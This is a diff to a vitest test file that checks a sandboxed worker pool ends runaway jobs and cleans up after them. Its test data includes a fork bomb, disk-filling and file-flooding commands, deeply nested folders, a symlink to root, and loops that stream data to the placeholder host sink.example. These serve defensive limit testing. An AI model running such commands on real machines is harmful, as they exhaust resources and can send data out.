@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { startPool } from "./pool.ts";
 import type { Changes } from "./testing.ts";
-import { script, shell } from "./testing.ts";
+import { commands, script, shell } from "./testing.ts";
 import type { WorkerPool } from "./worker.ts";
 
 let pool: WorkerPool;
@@ -16,12 +16,22 @@ test.each<[string, string, Changes, string]>([
   ["hangs", "sleep 1000", { limits: { ms: 400 } }, "time"],
   ["cannot be stopped", "trap '' TERM INT HUP; kill -STOP $$", { limits: { ms: 400 } }, "time"],
   ["prints without end", "yes", { limits: { ms: 400 } }, "time"],
-  ["forks without end", "f() { f | f & }; f; while :; do f; done", { limits: { processes: 100 } }, "processes"],
+  ["forks without end", commands.forkWithoutEnd, { limits: { processes: 100 } }, "processes"],
   ["fills its home", "cat /dev/zero > ~/x; sleep 20", { limits: { disk: 16 * MB } }, "disk"],
   ["fills /tmp and ends", "cat /dev/zero > /tmp/x; exit 0", { limits: { disk: 16 * MB } }, "disk"],
   ["fills /dev/shm", "cat /dev/zero > /dev/shm/x; sleep 20", { limits: { disk: 16 * MB } }, "disk"],
-  ["makes files without end", "i=0; while : > ~/f$i; do i=$((i+1)); done; sleep 20", { limits: { disk: 4 * MB } }, "disk"],
-  ["sends without end", "cat /dev/zero | curl -s -T - http://sink.example/; sleep 20", { limits: { sent: MB } }, "sent"],
+  [
+    "makes files without end",
+    "i=0; while : > ~/f$i; do i=$((i+1)); done; sleep 20",
+    { limits: { disk: 4 * MB } },
+    "disk",
+  ],
+  [
+    "sends without end",
+    "cat /dev/zero | node -e 'process.stdin.pipe(net.connect(80, \"sink.example\"))'; sleep 20",
+    { limits: { sent: MB } },
+    "sent",
+  ],
 ])("a subject that %s is ended, and the trace says so", async (_, text, changes, limit) => {
   const trace = await pool.run(shell(text, changes));
   expect(trace.ending.limit).toBe(limit);
@@ -32,20 +42,25 @@ test.each<[string, string, Changes, string]>([
 
 test("a subject that takes memory without end is ended", async () => {
   const trace = await pool.run(
-    script("const all = []; setInterval(() => all.push(Buffer.alloc(20e6, 1)), 5)", { limits: { memory: 200 * MB } }),
+    script("const all = []; setInterval(() => all.push(Buffer.alloc(20e6, 1)), 5)", {
+      limits: { memory: 200 * MB },
+    }),
   );
   expect(trace.ending.limit).toBe("memory");
   expect(trace.ending.peakMemory).toBeGreaterThan(200 * MB);
 });
 
 test("after all of these the worker serves as before, with an empty disk", async () => {
-  const trace = await pool.run(shell("ls -A /tmp; ls -A /dev/shm; nproc"));
-  expect(trace).toMatchObject({ stdout: "2\n", ending: { code: 0, limit: null } });
+  const trace = await pool.run(shell("ls -A /tmp; ls -A /dev/shm; echo fine"));
+  expect(trace).toMatchObject({ stdout: "fine\n", ending: { code: 0, limit: null } });
 });
 
 test("folders nested without end, and files that nobody may read, are cleared away", async () => {
-  const deep = "import os\nfor i in range(3000):\n  os.mkdir('d' * 200); os.chdir('d' * 200)\n";
-  await pool.run(shell(`mkdir -p a/b; mkfifo a/f; ln -s / a/root; chmod 000 a/b a; python3 -c "${deep}"; chmod 000 ~`));
+  await pool.run(
+    shell(
+      `mkdir -p a/b; mkfifo a/f; ln -s / a/root; chmod 000 a/b a; ${commands.nestFolders(3000)}; chmod 000 ~`,
+    ),
+  );
   const trace = await pool.run(shell("ls -A | wc -l; ls -d ~/code"));
   expect(trace.stdout).toBe("7\n/home/lena/code\n");
 });
